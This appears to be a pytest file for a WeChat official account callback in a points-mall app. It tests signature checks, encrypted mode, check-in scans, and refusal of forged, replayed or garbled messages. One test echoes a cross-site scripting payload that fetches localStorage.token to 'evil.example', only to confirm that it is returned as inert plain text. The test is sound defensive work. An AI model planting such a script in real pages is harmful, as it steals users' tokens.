"""The public account's callback: signatures, plain and encrypted messages, check-in by scene, and every
way an attacker might forge, replay or garble a message, each sent over HTTP as they would send it."""
import hashlib
import time
import uuid

import pytest
import xmltodict
from wechatpy.crypto import WeChatCrypto

from points_mall import create_app
from points_mall.config import TestConfig
from points_mall.notify.wechat_inbound import checkin_scene

from .conftest import WX_CONFIG, make_wx_app
from .helpers import make_activity

TOKEN, AES_KEY, APPID = WX_CONFIG["WECHAT_OA_TOKEN"], WX_CONFIG["WECHAT_OA_AES_KEY"], WX_CONFIG["WECHAT_OA_APPID"]


def signed(timestamp=None, nonce=None, token=TOKEN):
    """The query string WeChat adds to every request: a fresh timestamp and nonce, signed with the token."""
    timestamp, nonce = str(timestamp or int(time.time())), nonce or uuid.uuid4().hex[:10]
    signature = hashlib.sha1("".join(sorted([token, timestamp, nonce])).encode()).hexdigest()
    return {"signature": signature, "timestamp": timestamp, "nonce": nonce}


def event_xml(openid, event, key="", content=None, at=None):
    at = at or int(time.time())
    sender = "" if openid is None else f"<FromUserName>{openid}</FromUserName>"
    body = f"<ToUserName>gh_park</ToUserName>{sender}<CreateTime>{at}"
    if content is not None:
        return f"<xml>{body}</CreateTime><MsgType>text</MsgType><Content>{content}</Content><MsgId>1</MsgId></xml>"
    return f"<xml>{body}</CreateTime><MsgType>event</MsgType><Event>{event}</Event><EventKey>{key}</EventKey></xml>"


def post(client, xml, **params):
    return client.post("/wechat/callback", query_string=signed() | params, data=xml.encode(),
                       content_type="application/xml")


def reply_text(response):
    return xmltodict.parse(response.data)["xml"]["Content"]


def encrypted(xml, timestamp=None, nonce=None, app_id=APPID):
    """The request WeChat sends in safe mode: the body encrypted and signed (msg_signature) with the token."""
    query = signed(timestamp, nonce)
    body = WeChatCrypto(TOKEN, AES_KEY, app_id).encrypt_message(xml, query["nonce"], query["timestamp"])
    msg_signature = xmltodict.parse(body)["xml"]["MsgSignature"]
    return query | {"encrypt_type": "aes", "msg_signature": msg_signature}, body.encode()


@pytest.fixture
def plain(wx_app):
    """The account in plain mode (明文模式): no AES key, every request signed by the query string."""
    wx_app.config["WECHAT_OA_AES_KEY"] = ""
    return wx_app


@pytest.fixture
def scan(client, park, sql):
    """A member following the account, and a SCAN event of the check-in scene of an open activity."""
    m = park.members_a[1]
    sql("UPDATE member SET oa_openid = 'oa-zhang' WHERE id = :m", m=m.id)
    a = make_activity(client, park)
    with client.application.test_request_context():
        scene = checkin_scene(a["id"])
    return event_xml("oa-zhang", "SCAN", scene)


def test_the_server_url_is_verified_by_signature_and_echoes_plain_text(plain):
    client = plain.test_client()
    ok = client.get("/wechat/callback", query_string=signed() | {"echostr": "hello"})
    assert ok.status_code == 200 and ok.data == b"hello"
    assert ok.mimetype == "text/plain" and ok.headers["X-Content-Type-Options"] == "nosniff"
    script = "<script>fetch('//evil.example/?'+localStorage.token)</script>"
    echoed = client.get("/wechat/callback", query_string=signed() | {"echostr": script})
    assert echoed.mimetype == "text/plain" and "html" not in echoed.content_type
    assert echoed.headers["X-Content-Type-Options"] == "nosniff"
    bad = client.get("/wechat/callback", query_string=signed() | {"signature": "0" * 40, "echostr": "hello"})
    assert bad.status_code == 403 and b"hello" not in bad.data
    assert bad.get_json()["error"]["code"] == "callback_forged"


def test_a_forged_message_gets_403_and_changes_nothing(plain, park, fake, sql):
    fake.followers["oa-zhang"] = "u-zhang"
    sql("UPDATE member SET unionid = 'u-zhang' WHERE id = :m", m=park.members_a[1].id)
    r = plain.test_client().post("/wechat/callback", query_string=signed() | {"signature": "f" * 40},
                                 data=event_xml("oa-zhang", "subscribe").encode())
    assert r.status_code == 403
    assert sql("SELECT count(*) FROM member WHERE oa_openid IS NOT NULL") == 0


def test_a_forged_scan_checks_no_one_in(plain, scan, sql):
    client = plain.test_client()
    unsigned = client.post("/wechat/callback", data=scan.encode(), content_type="application/xml")
    wrongly_signed = client.post("/wechat/callback", query_string=signed(token="guessed"), data=scan.encode())
    empty_token = client.post("/wechat/callback", query_string=signed(token=""), data=scan.encode())
    assert [r.status_code for r in (unsigned, wrongly_signed, empty_token)] == [403, 403, 403]
    assert sql("SELECT count(*) FROM checkin") == 0 and sql("SELECT count(*) FROM scan_attempt") == 0


def test_without_a_token_nothing_is_accepted(plain, scan, sql):
    plain.config["WECHAT_OA_TOKEN"] = ""
    client = plain.test_client()
    echo = client.get("/wechat/callback", query_string=signed(token="") | {"echostr": "hello"})
    scanned = client.post("/wechat/callback", query_string=signed(token=""), data=scan.encode())
    assert echo.status_code == 403 and scanned.status_code == 403
    assert sql("SELECT count(*) FROM checkin") == 0


def test_a_stale_or_replayed_request_is_refused_and_changes_nothing(plain, scan, sql):
    client = plain.test_client()
    now = int(time.time())
    stale = client.post("/wechat/callback", query_string=signed(now - 301), data=scan.encode())
    early = client.post("/wechat/callback", query_string=signed(now + 301), data=scan.encode())
    assert (stale.status_code, early.status_code) == (403, 403)
    assert stale.get_json()["error"]["code"] == "callback_forged"
    assert sql("SELECT count(*) FROM scan_attempt") == 0

    query = signed(now - 290)  # a slow clock is still WeChat
    first = client.post("/wechat/callback", query_string=query, data=scan.encode())
    assert reply_text(first).startswith("签到成功")
    replayed = client.post("/wechat/callback", query_string=query, data=scan.encode())
    # plain mode signs only the query: the captured signature with another body is a replay too
    other_body = client.post("/wechat/callback", query_string=query, data=event_xml("oa-zhang", None, content="积分"))
    assert (replayed.status_code, other_body.status_code) == (403, 403)
    assert sql("SELECT count(*) FROM checkin") == 1 and sql("SELECT count(*) FROM scan_attempt") == 1


def test_a_nonce_is_seen_once_across_instances(plain, fake, scan, sql):
    query = signed()
    assert plain.test_client().post("/wechat/callback", query_string=query, data=scan.encode()).status_code == 200
    second = make_wx_app(fake)  # another gunicorn worker on the same Redis
    second.config["WECHAT_OA_AES_KEY"] = ""
    assert second.test_client().post("/wechat/callback", query_string=query, data=scan.encode()).status_code == 403


@pytest.mark.parametrize("redis_url", [None, "redis://127.0.0.1:1/0"], ids=["embedded", "redis-down"])
def test_without_redis_a_nonce_is_still_seen_once(app, fake, scan, sql, redis_url):
    class Alone(TestConfig):
        REDIS_URL = redis_url

    alone = create_app(Alone)
    alone.config.update(WX_CONFIG, WECHAT_API_BASE_URL=fake.base_url, WECHAT_OA_AES_KEY="")
    client, query = alone.test_client(), signed()
    assert reply_text(client.post("/wechat/callback", query_string=query, data=scan.encode())).startswith("签到成功")
    assert client.post("/wechat/callback", query_string=query, data=scan.encode()).status_code == 403
    assert sql("SELECT count(*) FROM scan_attempt") == 1


def test_a_follower_is_matched_by_unionid_and_asks_for_points(plain, park, fake, client, sql):
    m = park.members_a[1]
    fake.followers["oa-zhang"] = "u-zhang"
    sql("UPDATE member SET unionid = 'u-zhang' WHERE id = :m", m=m.id)
    welcome = post(plain.test_client(), event_xml("oa-zhang", "subscribe"))
    assert "欢迎关注" in reply_text(welcome)
    assert sql("SELECT oa_openid FROM member WHERE id = :m", m=m.id) == "oa-zhang"
    client.post("/api/v1/awards", json={"member_ids": [m.id], "rule_code": "service.volunteer"},
                headers=park.auth("org_a"))
    points = reply_text(post(plain.test_client(), event_xml("oa-zhang", None, content="积分")))
    assert points.startswith(f"{m.name}同志：超市积分5分") and "排名第1名" in points
    stranger = reply_text(post(plain.test_client(), event_xml("oa-nobody", None, content="积分")))
    assert "绑定" in stranger
    other = reply_text(post(plain.test_client(), event_xml("oa-zhang", None, content="你好")))
    assert "发送“积分”" in other
    post(plain.test_client(), event_xml("oa-zhang", "unsubscribe"))
    assert sql("SELECT oa_openid FROM member WHERE id = :m", m=m.id) is None


def test_a_message_without_a_sender_matches_no_one(plain, park, sql):
    """Every member not following the account has no oa_openid: a message from no one must not find them."""
    client = plain.test_client()
    for sender in (None, ""):
        r = post(client, event_xml(sender, None, content="积分"))
        assert r.status_code == 400 and r.get_json()["error"]["code"] == "callback_garbled"
        assert "同志" not in r.get_data(as_text=True)
    unsubscribed = post(client, event_xml(None, "unsubscribe"))
    assert unsubscribed.status_code == 400
    assert sql("SELECT count(*) FROM member WHERE oa_openid IS NOT NULL") == 0


def test_a_text_without_content_gets_help(plain, park, sql):
    sql("UPDATE member SET oa_openid = 'oa-zhang' WHERE id = :m", m=park.members_a[1].id)
    client = plain.test_client()
    xml = "<xml><ToUserName>gh_park</ToUserName><FromUserName>oa-zhang</FromUserName>" \
          f"<CreateTime>{int(time.time())}</CreateTime><MsgType>text</MsgType><MsgId>7</MsgId></xml>"
    r = post(client, xml)
    assert r.status_code == 200 and "发送“积分”" in reply_text(r)
    nested = post(client, event_xml("oa-zhang", None, content="<b>积分</b>"))
    assert nested.status_code == 200 and "发送“积分”" in reply_text(nested)


def test_scanning_a_checkin_scene_checks_the_follower_in(plain, park, client, sql):
    m = park.members_a[1]
    sql("UPDATE member SET oa_openid = 'oa-zhang' WHERE id = :m", m=m.id)
    a = make_activity(client, park)
    with plain.test_request_context():
        scene = checkin_scene(a["id"])
    at = int(time.time())
    answer = reply_text(post(plain.test_client(), event_xml("oa-zhang", "SCAN", scene, at=at)))
    assert answer.startswith("签到成功：七一主题党日，获得2分")
    redelivered = reply_text(post(plain.test_client(), event_xml("oa-zhang", "SCAN", scene, at=at)))
    assert redelivered == answer  # WeChat resends a message it got no answer to: same answer
    again = reply_text(post(plain.test_client(), event_xml("oa-zhang", "SCAN", scene, at=at + 5)))
    assert again == "您已签到"
    new_follower = reply_text(post(plain.test_client(), event_xml("oa-zhang", "subscribe", "qrscene_" + scene,
                                                                  at=at + 9)))
    assert new_follower == "您已签到"
    assert sql("SELECT count(*) FROM checkin") == 1
    assert sql("SELECT method FROM scan_attempt ORDER BY id LIMIT 1") == "scan"


def test_encrypted_mode_round_trip(wx_app, park, sql):
    m = park.members_a[1]
    sql("UPDATE member SET oa_openid = 'oa-zhang' WHERE id = :m", m=m.id)
    query, body = encrypted(event_xml("oa-zhang", None, content="积分"))
    r = wx_app.test_client().post("/wechat/callback", data=body, query_string=query)
    assert r.status_code == 200
    reply = xmltodict.parse(r.data)["xml"]
    assert "Content" not in reply  # the answer is encrypted back, not readable on the wire
    crypto = WeChatCrypto(TOKEN, AES_KEY, APPID)
    plain = crypto.decrypt_message(r.data, reply["MsgSignature"], reply["TimeStamp"], reply["Nonce"])
    assert "超市积分0分" in xmltodict.parse(plain)["xml"]["Content"]


def test_safe_mode_refuses_what_is_not_encrypted_and_signed_by_the_account(wx_app, scan, sql):
    client = wx_app.test_client()
    plain_body = client.post("/wechat/callback", query_string=signed(), data=scan.encode())
    query, body = encrypted(scan)
    tampered = client.post("/wechat/callback", data=body, query_string=query | {"msg_signature": "0" * 40})
    other_query, other_body = encrypted(scan, app_id="wx-other")
    other_account = client.post("/wechat/callback", data=other_body, query_string=other_query)
    swapped = client.post("/wechat/callback", data=encrypted(event_xml("oa-zhang", None, content="积分"))[1],
                          query_string=query)  # a body signed for another request
    assert [r.status_code for r in (plain_body, tampered, other_account, swapped)] == [403] * 4
    assert sql("SELECT count(*) FROM checkin") == 0 and sql("SELECT count(*) FROM scan_attempt") == 0
    ok = client.post("/wechat/callback", data=body, query_string=query)
    assert ok.status_code == 200 and client.post("/wechat/callback", data=body, query_string=query).status_code == 403
    assert sql("SELECT count(*) FROM checkin") == 1


def test_production_refuses_to_start_without_a_token():
    class Production(TestConfig):
        TESTING = False
        WECHAT_GATEWAY = "wechatpy"
        WECHAT_OA_TOKEN = ""

    with pytest.raises(RuntimeError, match="WECHAT_OA_TOKEN"):
        create_app(Production)

    class AccountWithoutToken(TestConfig):
        WECHAT_OA_APPID = "wx-oa"
        WECHAT_OA_TOKEN = ""

    with pytest.raises(RuntimeError, match="WECHAT_OA_TOKEN"):
        create_app(AccountWithoutToken)

    class BadKey(Production):
        WECHAT_OA_TOKEN = "oa-token"
        WECHAT_OA_AES_KEY = "too-short"

    with pytest.raises(RuntimeError, match="WECHAT_OA_AES_KEY"):
        create_app(BadKey)

    class Configured(Production):
        WECHAT_OA_TOKEN = "oa-token"

    assert create_app(Configured).config["WECHAT_OA_TOKEN"] == "oa-token"
